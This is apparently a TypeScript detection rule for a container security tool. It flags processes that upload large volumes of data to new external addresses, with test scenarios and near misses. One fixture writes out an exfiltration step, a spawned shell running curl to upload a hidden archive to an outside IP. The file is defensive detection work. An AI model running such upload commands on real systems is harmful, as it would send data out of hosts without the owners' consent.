import type { Connection } from '../../model/connection.js';
import type { Process } from '../../model/process.js';
import type { Call } from '../calls.js';
import { grouped } from '../calls.js';
import { commandedRows, levelBelow } from '../commanded.js';
import type { Draft } from '../draft.js';
import { seconds } from '../lineage.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { amount, command, connectionEvidence, destination, processEvidence, span } from '../wording.js';

const MEGABYTE = 1_000_000;
const CONNECTIONS_SHOWN = 10;

export const uploadVolume = defineRule({
  id: 'upload-volume',
  title: 'Much data sent to a new place outside',
  description:
    'A process sends much more than it receives to an address outside that nothing in its container had called during the first minutes of what was ' +
    'seen of it. Answering callers is not counted, and what a container sends to the same place all along is its work, as is what the host itself sends.',
  level: 'high',
  stage: 'consequence',
  attack: ['T1048', 'T1041'],
  needs: ['connections'],
  options: {
    megabytes: { value: 10, description: 'Sent by one process to one address in all.' },
    ratio: { value: 10, description: 'How many times what it received.' },
    knownSeconds: { value: 300, description: 'An address called this early after the start of the container belongs to its work.' },
  },
  falsePositives: [
    'Backups and log shippers that begin late or to a new address.',
    'A registry or an object store behind changing addresses.',
  ],
  *run({ view, option, stories, calls }) {
    const commanded = commandedRows(stories);
    const outside = calls().filter((call) => call.isExternal);
    const known = knownPlaces(
      outside,
      (call) => view.process(call.processId),
      (id) => view.container(id)?.startedAtUs,
      seconds(option('knownSeconds')),
    );
    for (const own of grouped(outside, (call) => `${call.processId} ${call.ip}`).values()) {
      const sent = sum(own, (call) => call.bytesSent);
      const received = sum(own, (call) => call.bytesReceived);
      if (sent < option('megabytes') * MEGABYTE || sent < received * option('ratio')) continue;
      const [first] = own;
      const process = first === undefined ? undefined : view.process(first.processId);
      if (first === undefined || process?.containerId === undefined || known.has(`${process.containerId} ${first.ip}`)) continue;
      const connections = own.slice(0, CONNECTIONS_SHOWN).flatMap((call) => view.connection(call.connectionId) ?? []);
      yield { ...draft(process, own, connections, sent, received), level: levelBelow(commanded, process.id, 'medium') };
    }
  },
  hits: [
    scenario(
      'curl sends an archive to an address that the service never called',
      `
      container web
      0       node server.js
      5         > tcp 203.0.113.20:443 sent 900 received 4000 until 6
      1200      sh -c "…"
      1200.1      curl -T /tmp/.c.gz http://203.0.113.9:8443/
      1200.2        > tcp 203.0.113.9:8443 sent 52000000 received 300 until 1230
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a log shipper sends to the same place all along',
      `
      container shipper
      0       fluent-bit
      5         > tcp 203.0.113.20:443 sent 40000000 received 4000 until 600
      600       > tcp 203.0.113.20:443 sent 90000000 received 4000 until 1200
    `,
    ),
    scenario(
      'a service downloads much',
      `
      container web
      0       node server.js
      1200      curl -O http://203.0.113.9/big
      1200.1      > tcp 203.0.113.9:80 sent 300 received 90000000 until 1230
    `,
    ),
    scenario(
      'a nightly backup goes to a new address, which is worth a look and no more',
      `
      container backup
      0       crond -f
      7200      rclone sync /data remote:bucket
      7201        > tcp 203.0.113.40:443 sent 90000000 received 20000 until 7300
    `,
    ),
  ],
});

/** `container address` of what was called early in the life of the container. */
function knownPlaces(
  calls: readonly Call[],
  processOf: (call: Call) => Process | undefined,
  startOf: (containerId: number) => number | undefined,
  early: number,
): ReadonlySet<string> {
  return new Set(
    calls.flatMap((call) => {
      const containerId = processOf(call)?.containerId;
      const start = containerId === undefined ? undefined : startOf(containerId);
      return start !== undefined && call.atUs - start <= early ? [`${containerId} ${call.ip}`] : [];
    }),
  );
}

function sum(calls: readonly Call[], bytes: (call: Call) => number): number {
  return calls.reduce((total, call) => total + bytes(call), 0);
}

function draft(
  process: Process,
  calls: readonly Call[],
  connections: readonly Connection[],
  sent: number,
  received: number,
): Omit<Draft, 'level'> {
  const [first] = connections;
  const place = first === undefined ? calls[0]?.ip : destination(first);
  return {
    title: `${command(process)} sent ${amount(sent)} to ${place}`,
    why: `${command(process)} (pid ${process.pid}) sent ${amount(sent)} to ${place} and received ${amount(received)}; its container had not called that address before its first minutes were over.`,
    process,
    ...span(...calls.map((call) => call.atUs), ...connections.map((one) => one.closedAtUs)),
    count: calls.length,
    connections,
    related: [],
    evidence: [
      ...processEvidence(process),
      ...connections.flatMap((one) =>
        connectionEvidence(one, `pid ${process.pid} connected to ${destination(one)}, ${amount(one.bytesSent ?? 0)} sent`),
      ),
    ],
    members: [process.id],
  };
}
